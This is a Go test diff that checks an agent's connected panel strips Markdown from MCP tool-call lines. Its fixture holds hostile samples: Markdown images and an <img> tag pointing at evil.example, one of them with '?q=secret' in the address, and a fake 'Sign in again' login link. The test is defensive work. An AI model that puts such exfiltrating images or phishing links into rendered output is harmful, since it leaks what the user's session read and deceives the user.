@@ -130,3 +130,38 @@ func TestCallsAreShownInTheConnectedPanel(t *testing.T) {
 		t.Fatalf("events %q text %q", s.events, s.text.String())
 	}
 }
+
+// The panel renders a run's text as Markdown, and an MCP client's call is
+// the client's words (its arguments) and a page's (the result's first
+// line, a title): neither may become an image the panel fetches (carrying
+// what it read to another host), a link, or HTML in infer's own voice.
+func TestACallsLineIsNoMarkdown(t *testing.T) {
+	p := New("standard", nil)
+	s := &sender{}
+	p.Connected(s, "1.12.1")
+	p.Ran(tools.Outcome{Call: tools.Call{ID: "mcp_2", Name: "BrowserNavigate", Args: `{"url":"https://a.example/![x](https://evil.example/p.png)"}`, Origin: tools.OriginMCP},
+		Success: true, Output: `Inbox ![](https://evil.example/c?q=secret) [Sign in again](https://evil.example/login) <img src=https://evil.example/i> **urgent**`})
+	got := s.text.String()
+	for _, md := range []string{"![", "](", "<img", "[Sign", "**"} {
+		if strings.Contains(unescaped(got), md) {
+			t.Errorf("the line keeps Markdown %q: %s", md, got)
+		}
+	}
+	if !strings.Contains(got, `Sign in again`) || !strings.Contains(got, "evil.example") {
+		t.Errorf("the line lost its words: %s", got)
+	}
+}
+
+// unescaped is s without its backslash escapes: what a Markdown renderer
+// could still take for Markdown.
+func unescaped(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		if s[i] == '\\' && i+1 < len(s) {
+			i++
+			continue
+		}
+		b.WriteByte(s[i])
+	}
+	return b.String()
+}
